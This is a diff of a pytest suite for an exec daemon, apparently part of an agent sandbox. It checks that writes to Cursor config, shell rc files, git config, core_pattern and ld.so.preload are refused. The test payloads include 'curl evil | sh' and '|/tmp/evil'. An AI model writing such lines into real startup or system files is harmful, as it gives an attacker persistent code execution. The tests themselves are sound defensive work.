@@ -83,6 +83,10 @@ def daemon(  # replaces shared_daemon's: HOME and an MCP server of its own
         yield running
 
 
+def content_or_none(path: Path | str) -> bytes | None:
+    return Path(path).read_bytes() if os.path.lexists(path) else None
+
+
 def refused(result: Any) -> str:
     """The reason of a permission_denied answer (fails on any other answer)."""
     assert case(result) == "permission_denied", result
@@ -110,10 +114,10 @@ async def test_home_cursor_config_cannot_be_written(
     client: ExecDaemonClient, home: Path, relative: str
 ) -> None:
     target = home / relative
-    before = target.read_bytes() if target.exists() else None
+    before = content_or_none(target)
     reason = refused(await result_of(client, write_call(target, '{"evil": true}')))
     assert "protected" in reason
-    assert (target.read_bytes() if target.exists() else None) == before
+    assert (content_or_none(target)) == before
 
 
 @pytest.mark.parametrize("relative", [".bashrc", ".profile", ".gitconfig", ".config/git/config"])
@@ -121,9 +125,18 @@ async def test_home_rc_files_and_git_config_cannot_be_written(
     client: ExecDaemonClient, home: Path, relative: str
 ) -> None:
     target = home / relative
-    before = target.read_bytes() if target.exists() else None
+    before = content_or_none(target)
     refused(await result_of(client, write_call(target, "curl evil | sh\n")))
-    assert (target.read_bytes() if target.exists() else None) == before
+    assert (content_or_none(target)) == before
+
+
+@pytest.mark.parametrize("path", ["/proc/sys/kernel/core_pattern", "/etc/ld.so.preload"])
+async def test_system_files_that_run_code_cannot_be_written(
+    client: ExecDaemonClient, path: str
+) -> None:
+    before = content_or_none(path)
+    assert "protected" in refused(await result_of(client, write_call(path, "|/tmp/evil\n")))
+    assert (content_or_none(path)) == before
 
 
 async def test_home_cursor_reached_through_proc_self_root_is_refused(
@@ -358,11 +371,11 @@ async def test_download_path_cannot_overwrite_protected_files(
     git_config.parent.mkdir()
     git_config.write_text("[core]\n")
     for target in (git_config, home / ".cursor" / "x.json", daemon.workspace / ".cursor" / "y"):
-        before = target.read_bytes() if target.exists() else None
+        before = content_or_none(target)
         result = await download(client, target)
         assert result.WhichOneof("result") == "error", result
         assert result.error.code == "permission_denied" and "protected" in result.error.message
-        assert (target.read_bytes() if target.exists() else None) == before
+        assert (content_or_none(target)) == before
 
 
 async def test_download_path_through_a_planted_symlink_is_checked_where_it_leads(
